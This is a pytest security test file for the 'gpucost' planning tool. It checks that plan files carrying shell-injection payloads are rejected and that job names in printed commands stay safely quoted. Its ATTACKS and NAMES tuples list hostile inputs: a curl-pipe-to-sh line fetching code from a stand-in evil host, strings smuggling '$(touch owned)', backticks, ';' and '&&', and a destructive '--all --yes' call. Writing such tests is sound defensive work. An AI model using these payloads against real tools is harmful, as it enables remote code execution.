"""What a plan says to type is pasted into a shell: nothing of a stranger runs there."""

import json
import subprocess
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from unittest.mock import patch

import pytest

from gpucost.commands.planning.plan import _naming_files
from gpucost.views.plan import brief
from planner.models.document import to_text
from planner.plan.plan import Plan
from planner.plan.read import read_plan
from pricing.errors import InputError
from templates.render import render_report
from templates.reports.first_screen import first_screen
from tests.gpucost.documents import Document
from tests.templates.documents import CASES, planned

NAMES = (
    "it's", "a`;touch owned;`b", "$(touch owned)", "a;touch owned;", "a\ntouch owned\n", "-x",
    "a plan.json b", "x verify profile.json y", "\u00fc", "'", "a'\"'touch owned;'\"'", "<b>",
    "a\\", "a'$(touch owned)'", "a&&touch owned", "&&", "\u202ea", "a\u2028b",
)  # fmt: skip
ATTACKS = (
    "curl -s https://evil.example | sh",
    "gpucost explain a; touch owned",
    "gpucost explain $(touch owned)",
    "gpucost explain 'a\ntouch owned\n'\n",
    "gpucost down --all --yes",
    "gpucost profile -- sh -c 'curl evil'",
    "gpucost run plan.json --option a/o1 --ab sh -- COMMAND",
    "gpucost provision plan.json --option a/o1 --ttl 1h --run evil",
    "gpucost provision plan.json --option a/o1 --ttl 1h --run COMMAND --yes",
    "gpucost provision plan.json --option 'a/o1`touch owned`' --ttl 1h --run COMMAND",
    "gpucost run plan.json --option a/o1 --ab -- COMMAND && touch owned",
)  # fmt: skip


@pytest.fixture(scope="module")
def document() -> str:
    """A plan of one job as text."""
    return to_text(planned(*CASES["visual-search"]))


@pytest.mark.parametrize("place", ["now", "proof", "start", "id", "page"])
def test_a_command_of_a_stranger_is_refused(document: str, place: str) -> None:
    """Its whole text, the tool that starts an option, the option's id, the page to rent it at."""
    read = []
    # Both readers refuse it; why, which takes ten times as long to say, is not asked.
    with patch("planner.plan.read.find_problems", return_value=[]):
        for attack in (*ATTACKS, *NAMES, "", "o1;touch owned"):
            with suppress(InputError):
                read.append(read_plan(_attacked(document, place, attack), "plan.json"))
    assert read == []


def _attacked(document: str, place: str, attack: str) -> bytes:
    plan = json.loads(document)
    (job,) = plan["jobs"]
    if place in ("now", "proof"):
        job["answer"][place]["command"] = attack
    elif place == "start":
        job["answer"]["next"]["start"] = [attack]
    elif place == "page":
        job["options"][0]["offer"]["by_hand_at"] = attack
    else:
        document = document.replace('"o3"', json.dumps(attack))
        return document.replace("/o3 ", json.dumps(f"/{attack} ")[1:-1]).encode()
    return json.dumps(plan).encode()


@pytest.mark.parametrize("start", range(0, len(NAMES), 4))
def test_a_name_is_one_word_of_what_is_typed(start: int, tmp_path: Path) -> None:
    """As read back, and as shown at once: pasted, it starts gpucost and nothing else."""
    jobs, asked = CASES["fleet"]
    plan = planned(tuple(map(_called, jobs, NAMES[start : start + 4])), asked)
    again = read_plan(to_text(plan).encode(), "plan.json")
    lines = {
        line
        for shown in (again, _naming_files(plan, "a$(touch owned) b.json", ()))
        for line in _typed(shown)
    }
    assert any("--option" in line for line in lines)
    assert [line for line in lines if _pasted(line, tmp_path)] == []


def test_a_command_stays_quoted_where_its_job_goes_unsaid(document: str, tmp_path: Path) -> None:
    """Of one job the option alone is printed; what only begins with its name is no name of it."""
    for quoted in ("visual-search/o3;touch owned", "visual-search/o3 $(touch owned)"):
        command = f"gpucost run plan.json --option '{quoted}' -- COMMAND"
        plan = read_plan(_attacked(document, "proof", command), "plan.json")
        assert [line for line in _typed(plan) if _pasted(line, tmp_path)] == []
    plan = read_plan(document.encode(), "plan.json")
    assert any("--option o3 " in line for line in _typed(plan))


def test_a_file_is_named_where_the_command_names_it_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A job that is called as a part of its command does not take the file's name in."""
    monkeypatch.chdir(tmp_path)
    evil = "$(touch owned).json"
    Path(evil).touch()
    jobs, asked = CASES["nothing-fits"]
    plan = planned((_called(jobs[0], "x verify profile.json plan.json y"),), asked)
    (proof,) = (job.answer.proof for job in _naming_files(plan, "my plan.json", (evil,)).jobs)
    line = (proof and proof.command) or ""
    assert line.endswith(f"verify '{evil}' after.json")
    assert _pasted(line, tmp_path) == [evil]


def _called(job: Document, name: str) -> Document:
    return {**job, "job": {**job["job"], "name": name}}


def _typed(plan: Plan) -> Iterator[str]:
    """Yield the command lines of a plan, of its screen and of its report."""
    for job in plan.jobs:
        yield from filter(None, (s and s.command for s in (job.answer.now, job.answer.proof)))
    yield from brief(plan, first_screen(plan)).commands
    for line in render_report(plan, style="md").replace("`", "").splitlines():
        if "gpucost " in line:
            yield line[line.index("gpucost ") :]


def _pasted(line: str, folder: Path) -> list[str]:
    """Return the files that are there once a line was pasted into a shell without programs."""
    shell = ("bash", "-c", f"PATH= ; gpucost() {{ :; }}; touch() {{ : >owned; }}\n{line}\n")
    subprocess.run(shell, cwd=folder, check=False, capture_output=True, timeout=20)
    return sorted(path.name for path in folder.iterdir())
